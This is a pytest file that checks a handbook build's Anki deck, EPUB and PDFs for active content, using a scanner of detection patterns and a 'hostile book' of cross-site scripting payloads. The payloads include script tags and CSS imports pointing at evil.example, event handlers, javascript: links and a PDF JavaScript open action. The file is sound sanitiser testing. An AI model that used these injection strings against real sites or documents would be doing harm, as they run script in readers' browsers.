"""No artifact carries active content: a scan of everything the build ships.

Scanned: the Anki deck (fields, card templates and CSS, deck descriptions, media; once as
packaged and once after a real import with the Anki engine, including each card as Anki renders
it), every file of the EPUB (XHTML, SVG, package and navigation documents, CSS) and the actions
and annotations of every PDF. Looked for: script, event handlers (on*=), `javascript:`/`vbscript:`
addresses, and resources a reader would load by itself from the network (img src, CSS url() and
@import, SVG href, <link>, <object>, <iframe>, <meta refresh>). A link the reader clicks
(<a href="https://…">, a PDF URI link annotation) is legitimate: the books cite papers.

Two books are scanned: the handbook (built once per session by conftest) and a "hostile" book,
the mini fixture with a chapter made of every hostile input the build accepts and sanitises
(the accepted cases of tests/hostile.py plus the classic script-injection forms).
"""

from __future__ import annotations

import re
import shutil
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

from conftest import FIXTURES, HANDBOOK_EPOCH, run_build
from hostile import CASES, PARAGRAPH

REMOTE = re.compile(r"^\s*(?:https?:|ftp:|//)", re.I)
ACTIVE_SCHEME = re.compile(r"(?:java|vb)script:", re.I)
CSS_URL = re.compile(r"url\(\s*['\"]?([^'\")]*)", re.I)
# Attributes whose address is loaded without the reader asking (on any element but <a>).
LOADED = {"src", "data", "poster", "srcset", "background", "altimg", "href", "xlink:href", "action", "formaction"}
ELEMENTS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "form",
            "foreignobject", "handler", "listener"}
CLICKED = ("http:", "https:", "mailto:")
PDF_ACTIONS_ALLOWED = {"/URI", "/GoTo"}


def css_findings(css: str, where: str) -> list[str]:
    found = []
    if re.search(r"@import", css, re.I):
        found.append(f"{where}: CSS @import")
    if re.search(r"expression\s*\(", css, re.I) or ACTIVE_SCHEME.search(re.sub(r"\s", "", css)):
        found.append(f"{where}: active CSS")
    found += [f"{where}: CSS url({u})" for u in CSS_URL.findall(css) if REMOTE.match(u)]
    return found


class _Scanner(HTMLParser):
    """Markup (HTML, XHTML, SVG, OPF, NCX) as a browser would meet it: tags and their attributes."""

    def __init__(self, where: str):
        super().__init__(convert_charrefs=True)
        self.where = where
        self.found: list[str] = []
        self.in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        where = f"{self.where}: <{tag}>"
        if tag in ELEMENTS:
            self.found.append(f"{where} element")
        self.in_style = tag == "style"
        values = {name: value or "" for name, value in attrs}
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.found.append(f"{where} refresh")
        for name, value in values.items():
            if name.startswith("on"):
                self.found.append(f"{where} handler {name}=")
            if ACTIVE_SCHEME.search(re.sub(r"[\s\x00-\x1f]", "", value)):
                self.found.append(f"{where} {name}={value[:60]!r}")
            if name == "style":
                self.found += css_findings(value, where)
            if name in LOADED and tag != "a" and REMOTE.match(value):
                self.found.append(f"{where} loads {value[:80]!r}")
            if tag == "a" and name in ("href", "xlink:href") and ":" in value.split("/")[0] \
                    and not value.lower().startswith(CLICKED):
                self.found.append(f"{where} link {value[:60]!r}")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        self.in_style = False

    def handle_data(self, data: str) -> None:
        if self.in_style:
            self.found += css_findings(data, f"{self.where}: <style>")


def markup_findings(text: str, where: str) -> list[str]:
    scanner = _Scanner(where)
    scanner.feed(text)
    scanner.close()
    return scanner.found


FONT_MAGIC = (b"\x00\x01\x00\x00", b"OTTO")
IMAGE_MAGIC = (b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"GIF87a", b"GIF89a")


def media_findings(name: str, data: bytes, where: str) -> list[str]:
    if name.endswith(".svg"):
        return markup_findings(data.decode("utf-8"), f"{where}/{name}")
    if not data.startswith(IMAGE_MAGIC):
        return [f"{where}/{name}: not a PNG, JPEG or GIF"]
    return []


def epub_findings(path: Path) -> list[str]:
    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            data = zf.read(name)
            where = f"{path.name}/{name}"
            if name.endswith((".xhtml", ".opf", ".ncx", ".xml", ".svg")):
                found += markup_findings(data.decode("utf-8"), where)
            elif name.endswith(".css"):
                found += css_findings(data.decode("utf-8"), where)
            elif name.endswith((".ttf", ".otf")) and data.startswith(FONT_MAGIC):
                pass  # an embedded font (glyph outlines only; fonts cannot script)
            elif name.endswith(".txt"):
                data.decode("utf-8")  # a licence text (the embedded math font's): plain text, never markup
            elif name != "mimetype" and not data.startswith(IMAGE_MAGIC):
                found.append(f"{where}: unexpected kind of file")
    return found


def _resolve(obj):
    return obj.get_object() if isinstance(obj, IndirectObject) else obj


def _action_findings(action, where: str) -> list[str]:
    found = []
    while isinstance(action, DictionaryObject):
        kind = str(action.get("/S"))
        if kind not in PDF_ACTIONS_ALLOWED:
            found.append(f"{where}: action {kind}")
        if kind == "/URI" and not str(action.get("/URI", "")).lower().startswith(CLICKED):
            found.append(f"{where}: URI {str(action.get('/URI'))[:60]!r}")
        action = _resolve(action.get("/Next"))
    return found


def pdf_findings(path: Path) -> list[str]:
    reader = PdfReader(path)
    root = reader.trailer["/Root"]
    found = []
    for key in ("/OpenAction", "/AA", "/AcroForm"):
        if key in root:
            found.append(f"{path.name}: document {key}")
    names = _resolve(root.get("/Names"))
    if isinstance(names, DictionaryObject):
        found += [f"{path.name}: document names {k}" for k in ("/JavaScript", "/EmbeddedFiles") if k in names]
    for number, page in enumerate(reader.pages, start=1):
        where = f"{path.name} page {number}"
        if "/AA" in page:
            found.append(f"{where}: page actions")
        annots = _resolve(page.get("/Annots"))
        for annot in annots if isinstance(annots, ArrayObject) else []:
            annot = _resolve(annot)
            subtype = str(annot.get("/Subtype"))
            if subtype != "/Link":
                found.append(f"{where}: {subtype} annotation")
            if "/AA" in annot:
                found.append(f"{where}: annotation actions")
            found += _action_findings(_resolve(annot.get("/A")), where)
    raw = path.read_bytes()
    found += [f"{path.name}: {word.decode()} in the file" for word in (b"/JavaScript", b"/JS ", b"/Launch")
              if word in raw]
    return found


def apkg_findings(path: Path, tmp: Path) -> list[str]:
    """The deck as packaged (its SQLite collection and media) and after a real import."""
    import json
    import sqlite3

    from anki.collection import Collection, ImportAnkiPackageOptions, ImportAnkiPackageRequest

    found = []
    with zipfile.ZipFile(path) as zf:
        media = json.loads(zf.read("media"))
        for number, name in media.items():
            found += media_findings(name, zf.read(number), f"{path.name} media")
        (tmp / "packaged.anki2").write_bytes(zf.read("collection.anki2"))
    db = sqlite3.connect(tmp / "packaged.anki2")
    for (flds,) in db.execute("select flds from notes"):
        found += markup_findings(flds.replace("\x1f", "\n"), f"{path.name} note")
    models, decks = (json.loads(v) for v in db.execute("select models, decks from col").fetchone())
    db.close()
    for model in models.values():
        found += css_findings(model["css"], f"{path.name} note type CSS")
        for tmpl in model["tmpls"]:
            found += markup_findings(tmpl["qfmt"] + tmpl["afmt"], f"{path.name} card template")
    for deck in decks.values():
        found += markup_findings(deck.get("desc", ""), f"{path.name} deck description")

    (tmp / "imported").mkdir()
    col = Collection(str(tmp / "imported" / "collection.anki2"))
    try:
        col.import_anki_package(ImportAnkiPackageRequest(package_path=str(path), options=ImportAnkiPackageOptions()))
        assert col.note_count() > 0
        for nid in col.find_notes(""):
            found += markup_findings("\n".join(col.get_note(nid).fields), "imported note")
        for cid in col.find_cards(""):
            card = col.get_card(cid)
            found += markup_findings(card.question() + card.answer(), "imported card as rendered")
        for deck in col.decks.all():
            found += markup_findings(deck.get("desc", ""), "imported deck description")
        media_dir = Path(col.media.dir())
        for file in sorted(media_dir.iterdir()):
            found += media_findings(file.name, file.read_bytes(), "imported media")
    finally:
        col.close()
    return found


def artifact_findings(dist: Path, tmp: Path) -> tuple[list[str], dict[str, int]]:
    found: list[str] = []
    kinds = {"apkg": 0, "epub": 0, "pdf": 0}
    for path in sorted(dist.iterdir()):
        kind = path.suffix.lstrip(".")
        if kind in kinds:
            kinds[kind] += 1
        if kind == "apkg":
            work = tmp / path.stem
            work.mkdir()
            found += apkg_findings(path, work)
        elif kind == "epub":
            found += epub_findings(path)
        elif kind == "pdf":
            found += pdf_findings(path)
    return found, kinds


# -- the hostile book -----------------------------------------------------------------------------

PAYLOADS = [
    '<script src="https://evil.example/x.js"></script><script>alert(1)</script>',
    '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css); p { background: url(https://evil.example/px.png) }</style>",
    '<div style="background:url(https://evil.example/px.png)">styled</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    '<form action="javascript:alert(1)"><input onfocus="alert(1)" autofocus></form>',
    '<svg onload="alert(1)"><image href="https://evil.example/px.png"/><script>alert(1)</script></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<a href="JaVaScRiPt:alert(1)">js</a> <a href="&#106;avascript:alert(1)">entity</a> '
    '<a href="vbscript:msgbox(1)">vb</a> <a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data</a>',
    "[md link](javascript:alert(1)) and <javascript:alert(1)>",
    '<details open ontoggle="alert(1)"><summary onclick="x()">s</summary>d</details>',
    '<span class="x" lang="en" onclick="steal()" onmouseover="steal()">span</span>',
    '<a href="https://arxiv.org/abs/1706.03762" onclick="x()" target="_blank">a paper, clicked</a>',
    '<table><tr><td style="text-align:right;background:url(https://evil.example/px.png)">cell</td></tr></table>',
    "Code is text: `<script>alert(1)</script>` and `javascript:alert(1)`.",
    "```html\n<img src=\"https://evil.example/px.png\" onerror=\"alert(1)\">\n```",
]


HOSTILE_REFERENCE = """
- id: hostile2024
  type: webpage
  title: "<img src=https://evil.example/px.png onerror=alert(1)> [sound:evil.mp3]"
  author:
    - {family: "<script>alert(1)</script>", given: "<b onclick=x()>"}
  issued: {date-parts: [[2024]]}
  container-title: "<style>@import url(https://evil.example/x.css)</style>"
  URL: "https://example.com/\\"><script>alert(1)</script>"
"""


def hostile_chapter() -> str:
    accepted = [new for case in CASES if case.exit_code == 0
                for (name, old, new) in case.edits if name == "handbook.md" and old == PARAGRAPH]
    body = "\n\n".join([*accepted, *PAYLOADS])
    return (
        "\n\n# Hostile :: input &lt;img src=x onerror=alert(1)&gt;\n\n```yaml\ntopic: hostile\nkey_papers: []\n```\n\n"
        f"{body}\n\n## What does [sound:evil.mp3] the sanitiser keep?\n\n```yaml\nid: sanitiser\n```\n\n"
        f"### Key points\n\n[anki:tts lang=en_US]spoken[/anki:tts] and {PAYLOADS[0]} [@hostile2024]\n\n"
        f"### Answer\n\n{body}\n"
    )


@pytest.fixture(scope="module")
def hostile_dist(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile-book")
    shutil.copytree(FIXTURES / "mini", root / "content")
    source = root / "content" / "handbook.md"
    text = source.read_text(encoding="utf-8").replace(
        "title: Mini Question Bank", "title: \"Mini <script>alert(1)</script> Bank\"").replace(
        "authors: [Test Author]", "authors: [\"Test <img src=https://evil.example/px.png onerror=alert(1)>\"]")
    source.write_text(text + hostile_chapter(), encoding="utf-8")
    with (root / "content" / "references.yaml").open("a", encoding="utf-8") as bib:
        bib.write(HOSTILE_REFERENCE)
    proc = run_build("all", "--source", str(source), "--out", str(root / "dist"),
                     env={"SOURCE_DATE_EPOCH": HANDBOOK_EPOCH})
    assert proc.returncode == 0, proc.stderr
    return root / "dist"


# -- the tests ------------------------------------------------------------------------------------


def test_the_scanner_finds_what_it_looks_for():
    """Each rule on a known-bad sample: a scan that finds nothing must mean nothing is there."""
    bad = [
        '<script>x()</script>', '<p onclick="x()">p</p>', '<a href="javascript:x()">a</a>',
        '<img src="https://t.example/px.png">', '<svg><image xlink:href="//t.example/px.png"/></svg>',
        '<p style="background:url(https://t.example/px.png)">p</p>', "<style>@import 'x.css';</style>",
        '<link rel="stylesheet" href="https://t.example/x.css">', '<iframe src="about:blank"></iframe>',
        '<math altimg="https://t.example/m.png"><mi>x</mi></math>',
    ]
    for sample in bad:
        assert markup_findings(sample, "sample"), sample
    assert markup_findings('<a href="https://arxiv.org/abs/1">paper</a> <code>&lt;script&gt;</code>', "ok") == []
    assert css_findings("p { background: url(https://t.example/px.png) }", "css")
    assert media_findings("x.png", b"<html><script>x()</script>", "media")


def test_the_pdf_scan_finds_scripts_and_active_links(tmp_path: Path):
    from pypdf import PdfWriter
    from pypdf.actions import JavaScript
    from pypdf.annotations import Link
    from pypdf.generic import NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_open_action(JavaScript("app.alert(1);"))
    link = Link(rect=(0, 0, 50, 50), url="https://arxiv.org/abs/1")
    link[NameObject("/A")][NameObject("/URI")] = TextStringObject("javascript:app.alert(1)")
    writer.add_annotation(0, link)
    writer.write(tmp_path / "bad.pdf")
    found = pdf_findings(tmp_path / "bad.pdf")
    assert "bad.pdf: document names /JavaScript" in found
    assert "bad.pdf page 1: URI 'javascript:app.alert(1)'" in found


@pytest.mark.slow
def test_the_handbook_ships_no_active_content(handbook_dist: Path, tmp_path: Path):
    found, kinds = artifact_findings(handbook_dist, tmp_path)
    assert kinds == {"apkg": 1, "epub": 1, "pdf": 3}
    assert found == []


@pytest.mark.slow
def test_a_book_of_hostile_input_ships_no_active_content(hostile_dist: Path, tmp_path: Path):
    found, kinds = artifact_findings(hostile_dist, tmp_path)
    assert kinds == {"apkg": 1, "epub": 1, "pdf": 3}
    assert found == []


@pytest.mark.slow
def test_the_hostile_book_keeps_its_text_and_clicked_links(hostile_dist: Path):
    """Sanitising removes the active parts, not the words or the links a reader clicks."""
    with zipfile.ZipFile(next(hostile_dist.glob("*.epub"))) as zf:
        chapter = zf.read("OEBPS/chapter-03.xhtml").decode("utf-8")
        bibliography = zf.read("OEBPS/bibliography.xhtml").decode("utf-8")
    # Text from the bibliography is text, whatever it looks like.
    assert "&lt;img src=https://evil.example/px.png onerror=alert(1)&gt;" in bibliography
    assert '<a href="https://arxiv.org/abs/1706.03762">a paper, clicked</a>' in chapter
    assert "<span class=\"x\" lang=\"en\">span</span>" in chapter
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in chapter  # the code sample, as text
    assert "&#91;sound:" not in chapter and "[sound:evil.mp3]" in chapter  # only Anki needs it escaped


@pytest.mark.slow
def test_the_hostile_epub_passes_epubcheck(hostile_dist: Path):
    from test_epub import epubcheck_messages

    assert epubcheck_messages(next(hostile_dist.glob("*.epub"))) == []
